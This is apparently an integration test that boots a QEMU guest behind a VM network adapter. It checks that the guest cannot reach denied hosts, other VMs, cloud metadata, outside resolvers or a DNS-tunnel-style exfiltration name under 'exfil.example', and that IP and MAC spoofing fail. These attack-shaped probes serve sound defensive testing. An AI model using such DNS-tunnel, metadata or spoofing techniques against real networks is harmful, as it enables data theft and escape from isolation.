// A real test guest behind the adapter: what it can and cannot reach. One TCG boot runs every
// check from one pcr.cmd script; the results are parsed from its console.
import assert from "node:assert/strict";
import { execa } from "execa";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import pino from "pino";
import { createNetwork } from "../../worker/net/network.js";
import type { NetworkPort, VmNetwork } from "../../worker/ports/index.js";
import { hostTscKhz } from "../../worker/vmm/accel.js";
import { createNetns, deleteNetns } from "../helpers/netns.js";
import { waitFor } from "../helpers/vm.js";
import { testGuest, type TestGuestSpec } from "../helpers/repo.js";
import { ALLOWED_IP, DENIED_IP, LISTEN_PORT, OTHER_DNS, RESOLVER, Topology, UPLINK, UPLINK_IP } from "./topology.js";

const logger = pino({ level: process.env.PCR_TEST_LOG ?? "silent" });
const guest = testGuest();
const skip = process.getuid?.() !== 0 ? "needs root for network namespaces" : "skip" in guest ? guest.skip : false;
const HOST_ALLOWED_PORT = 8080;
const HOST_OTHER_PORT = 9000;
/** What a DNS tunnel's query looks like: data in a label under a domain its sender controls. */
const EXFIL_LABEL = "nbswy3dpeb3w64tmmqqq";
const EXFIL_NAME = `${EXFIL_LABEL}.exfil.example`;

const SCRIPT_MAGIC = "#pcr-net-checks";
/** pcr.cmd: run the script from whichever disk holds it (the kernel command line is too short for it). */
const RUN_SCRIPT_DISK = `for d in /dev/vd?; do if head -c ${SCRIPT_MAGIC.length} $d | grep -q '${SCRIPT_MAGIC}'; then sh $d; fi; done`;

/** Boots the guest inside the namespace on the given TAP; resolves with its console once the command finished. */
async function bootGuest(ns: string, dir: string, spec: TestGuestSpec, net: VmNetwork, cmdline: string[], script: string): Promise<string> {
  // The script rides on a small read-only disk, padded with newlines to whole sectors.
  const scriptDisk = join(dir, "checks.img");
  const text = Buffer.from(`${SCRIPT_MAGIC}\n${script}\n`);
  await writeFile(scriptDisk, Buffer.concat([text, Buffer.alloc(Math.ceil(text.length / 4096) * 4096 - text.length, "\n")]));
  const append = [
    spec.cmdline,
    `tsc_early_khz=${hostTscKhz()}`,
    ...cmdline,
    `pcr.cmd=${Buffer.from(RUN_SCRIPT_DISK).toString("base64")}`,
    "pcr.poweroff=1",
  ];
  const qemu = execa(
    "ip",
    [
      "netns",
      "exec",
      ns,
      "qemu-system-x86_64",
      "-M",
      "microvm,acpi=on,rtc=off,pcie=off",
      "-accel",
      "tcg",
      "-cpu",
      "max",
      "-smp",
      "1",
      "-m",
      "256M",
      "-nodefaults",
      "-no-user-config",
      "-display",
      "none",
      "-no-reboot",
      "-kernel",
      spec.kernel,
      "-initrd",
      spec.initrd,
      "-append",
      append.join(" "),
      "-device",
      "virtio-rng-device",
      "-serial",
      "stdio",
      "-drive",
      `id=root,file=${spec.image},format=raw,if=none,readonly=on`,
      "-device",
      "virtio-blk-device,drive=root",
      "-drive",
      `id=checks,file=${scriptDisk},format=raw,if=none,readonly=on`,
      "-device",
      "virtio-blk-device,drive=checks",
      "-netdev",
      `tap,id=n0,ifname=${net.tap},script=no,downscript=no`,
      "-device",
      `virtio-net-device,netdev=n0,mac=${net.mac}`,
    ],
    { reject: false, stdin: "ignore", timeout: 150_000, killSignal: "SIGKILL" },
  );
  let consoleText = "";
  qemu.stdout!.on("data", (chunk: Buffer) => (consoleText += chunk.toString()));
  const result = await qemu;
  // QEMU's own complaints (and a timeout) belong in what a failing assertion prints.
  if (result.exitCode !== 0) consoleText += `\n[qemu ${result.exitCode ?? result.signal}] ${String(result.stderr).slice(-2000)}`;
  return consoleText;
}

describe("a test guest behind the network adapter", { skip }, () => {
  let world: Topology;
  let network: NetworkPort;
  let otherVmNs: string | undefined;
  const results = new Map<string, string>();
  let consoleText = "";
  let vmA: VmNetwork;
  let vmB: VmNetwork;

  before(async () => {
    const { spec } = guest as { spec: TestGuestSpec };
    world = await Topology.create();
    network = createNetwork({
      bridge: "pcrbr0",
      subnet: "10.213.0.0/16",
      resolver: RESOLVER,
      uplink: UPLINK,
      statePath: join(world.dir, "leases.json"),
      netns: world.ns,
      logger,
      hostAllowedPorts: [HOST_ALLOWED_PORT],
      resolve: world.resolver(),
      refresh: { minSeconds: 1, maxSeconds: 60, slackSeconds: 5 },
    });
    await network.init([]);
    // The allowed port also listens on the uplink's address: reachable only on the gateway's.
    world.startHostListeners([`10.213.0.1:${HOST_ALLOWED_PORT}`, `10.213.0.1:${HOST_OTHER_PORT}`, `${UPLINK_IP}:${HOST_ALLOWED_PORT}`]);

    // "VM B": a real endpoint on a port of the bridge, with B's address and MAC and a listener.
    // A veth stands in for B's TAP so that only one QEMU runs; the bridge treats both alike.
    vmB = await network.attach("vm-b000000001", []);
    otherVmNs = await createNetns("pcr-v");
    await execa("ip", ["-n", world.ns, "link", "delete", vmB.tap]);
    await execa("ip", ["-n", world.ns, "link", "add", vmB.tap, "type", "veth", "peer", "name", "eth0", "netns", otherVmNs]);
    await execa("ip", ["-n", world.ns, "link", "set", vmB.tap, "master", "pcrbr0"]);
    await execa("ip", ["-n", world.ns, "link", "set", vmB.tap, "type", "bridge_slave", "isolated", "on"]);
    await execa("ip", ["-n", world.ns, "link", "set", vmB.tap, "up"]);
    await execa("ip", ["-n", otherVmNs, "link", "set", "eth0", "address", vmB.mac]);
    await execa("ip", ["-n", otherVmNs, "addr", "add", `${vmB.ip}/${vmB.prefixLength}`, "dev", "eth0"]);
    await execa("ip", ["-n", otherVmNs, "link", "set", "eth0", "up"]);
    await execa("ip", ["-n", otherVmNs, "route", "add", "default", "via", vmB.gateway]);
    world.spawn(otherVmNs, "node", [
      "-e",
      `require("node:http").createServer((q, s) => s.end("hello-vm-b")).listen(${LISTEN_PORT}, "${vmB.ip}")`,
    ]);

    // metadata.test points at cloud metadata: the proxy must not tell the guest that address.
    await world.setHosts({ "allowed.test": ALLOWED_IP, "denied.test": DENIED_IP, "metadata.test": "169.254.169.254" });
    world.reloadDns();
    await waitFor(
      "metadata.test resolving",
      10_000,
      async () => ((await world.resolver()("metadata.test")).length > 0 ? true : undefined),
      100,
    );
    vmA = await network.attach("vm-a000000001", ["allowed.test", "metadata.test"]);
    const spoofIp = "10.213.0.250";
    const url = (host: string, port = LISTEN_PORT) => `http://${host}:${port}/`;
    const reset = (ip: string, mac: string) => `reset ${ip} ${mac}`;
    const script = [
      `check() { n=$1; shift; if out=$(timeout 3 wget -q -O - "$@" 2>&1); ` +
        `then echo "CHECK $n reached $out"; else echo "CHECK $n blocked"; fi; }`,
      `reset() { ip link set eth0 down; ip addr flush dev eth0; ip link set eth0 address $2; ` +
        `ip addr add $1/${vmA.prefixLength} dev eth0; ip link set eth0 up; ip route add default via ${vmA.gateway}; }`,
      `check allowed-by-name ${url("allowed.test")}`,
      `check denied-by-name ${url("denied.test")}`,
      `check denied-by-address ${url(DENIED_IP)}`,
      `check host-allowed-port ${url(vmA.gateway, HOST_ALLOWED_PORT)}`,
      `check host-other-port ${url(vmA.gateway, HOST_OTHER_PORT)}`,
      `check host-allowed-port-other-address ${url(UPLINK_IP, HOST_ALLOWED_PORT)}`,
      `check other-vm ${url(vmB.ip)}`,
      `dns() { n=$1; shift; if timeout 3 nslookup "$@" >/dev/null 2>&1; then echo "CHECK $n reached"; else echo "CHECK $n blocked"; fi; }`,
      `dns dns-elsewhere allowed.test ${OTHER_DNS}`,
      `dns dns-resolver-direct allowed.test ${RESOLVER}`,
      // A name off the list, shaped like a DNS tunnel's: REFUSED by the proxy, never sent upstream.
      `if out=$(timeout 3 nslookup ${EXFIL_NAME} 2>&1); then echo "CHECK dns-offlist reached"; ` +
        `else echo "CHECK dns-offlist blocked $(echo "$out" | grep -o REFUSED | head -n 1)"; fi`,
      `out=$(timeout 3 nslookup metadata.test 2>&1); if echo "$out" | grep -q 169.254; ` +
        `then echo "CHECK metadata-by-name reached"; else echo "CHECK metadata-by-name blocked"; fi`,
      reset(spoofIp, vmA.mac),
      `check spoofed-ip ${url(ALLOWED_IP)}`,
      reset(vmA.ip, "02:50:00:00:00:99"),
      `check spoofed-mac ${url(ALLOWED_IP)}`,
      reset(vmA.ip, vmA.mac),
      `check restored ${url("allowed.test")}`,
    ].join("\n");
    consoleText = await bootGuest(world.ns, world.dir, spec, vmA, network.guestCmdline(vmA), script);
    for (const match of consoleText.matchAll(/^CHECK (\S+) (reached|blocked)(.*)$/gm))
      results.set(match[1]!, `${match[2]}${match[3]!.trimEnd()}`);
  });

  after(async () => {
    await network?.detach("vm-a000000001").catch(() => undefined);
    await network?.detach("vm-b000000001").catch(() => undefined);
    await network?.close();
    if (otherVmNs) await deleteNetns(otherVmNs);
    await world?.destroy();
  });

  test("the guest ran every check", (t) => {
    t.diagnostic([...results].map(([name, outcome]) => `${name}: ${outcome}`).join("; "));
    assert.match(consoleText, /pcr-guest: cmd exit=0/, consoleText.slice(-3000));
    assert.equal(results.size, 14, [...results].join("\n"));
  });

  test("an allowed name is reachable, also after spoofing attempts end", () => {
    assert.equal(results.get("allowed-by-name"), `reached hello-${ALLOWED_IP}:${LISTEN_PORT}`);
    assert.equal(results.get("restored"), `reached hello-${ALLOWED_IP}:${LISTEN_PORT}`);
  });

  test("what is not allowed is not reachable", () => {
    for (const name of [
      "denied-by-name",
      "denied-by-address",
      "host-other-port",
      "host-allowed-port-other-address",
      "other-vm",
      "dns-elsewhere",
      "dns-resolver-direct",
      "metadata-by-name",
      "spoofed-ip",
      "spoofed-mac",
    ]) {
      assert.equal(results.get(name), "blocked", name);
    }
  });

  test("DNS: a name off the list is REFUSED by the worker's proxy and never reaches the upstream resolver", async () => {
    assert.equal(results.get("dns-offlist"), "blocked REFUSED");
    // The resolver logs queries in order: once a later one shows, the guest's would have too.
    const marker = `marker-${Date.now()}.test`;
    await world
      .resolver()(marker)
      .catch(() => []); // dnsmasq refuses names it does not hold; it logs them all the same
    const log = await waitFor("the resolver's log to show a later query", 10_000, async () => {
      const text = await world.resolverLog();
      return text.includes(marker) ? text : undefined;
    });
    assert.match(log, /query\[A\] allowed\.test/, "the proxy resolved the allowed name upstream");
    assert.ok(
      !log.includes(EXFIL_LABEL),
      log
        .split("\n")
        .filter((line) => line.includes("exfil"))
        .join("\n"),
    );
  });

  test("the allowed host port is reachable", () => {
    assert.equal(results.get("host-allowed-port"), `reached hello-10.213.0.1:${HOST_ALLOWED_PORT}`);
  });

  test("controls: what the guest could not reach does answer the host, so 'blocked' is the rules' doing", async () => {
    const get = async (url: string) =>
      (
        await execa("ip", ["netns", "exec", world.ns, "node", "-e", `fetch("${url}").then((r) => r.text()).then(console.log)`])
      ).stdout.trim();
    assert.equal(await get(`http://${vmB.ip}:${LISTEN_PORT}/`), "hello-vm-b");
    assert.equal(await get(`http://${DENIED_IP}:${LISTEN_PORT}/`), `hello-${DENIED_IP}:${LISTEN_PORT}`);
    assert.equal(await get(`http://10.213.0.1:${HOST_OTHER_PORT}/`), `hello-10.213.0.1:${HOST_OTHER_PORT}`);
    assert.equal(await get(`http://${UPLINK_IP}:${HOST_ALLOWED_PORT}/`), `hello-${UPLINK_IP}:${HOST_ALLOWED_PORT}`);
    const nslookup = await execa("ip", ["netns", "exec", world.ns, "busybox", "nslookup", "allowed.test", OTHER_DNS], { reject: false });
    assert.match(nslookup.stdout, new RegExp(ALLOWED_IP.replaceAll(".", "\\.")));
  });

  test("counters show the guest's traffic and its drops", async (t) => {
    const counters = await network.counters("vm-a000000001");
    t.diagnostic(
      `drops=${counters.egressDrops} rx=${counters.net.rxBytes}B/${counters.net.rxPackets}p ` +
        `tx=${counters.net.txBytes}B/${counters.net.txPackets}p`,
    );
    assert.ok(counters.egressDrops > 0n, `drops ${counters.egressDrops}`);
    assert.ok(
      counters.net.txBytes > 0n && counters.net.rxBytes > 0n,
      JSON.stringify(counters, (_, value: unknown) => (typeof value === "bigint" ? String(value) : value)),
    );
    assert.ok(counters.net.txPackets > 0n && counters.net.rxPackets > 0n);
  });
});
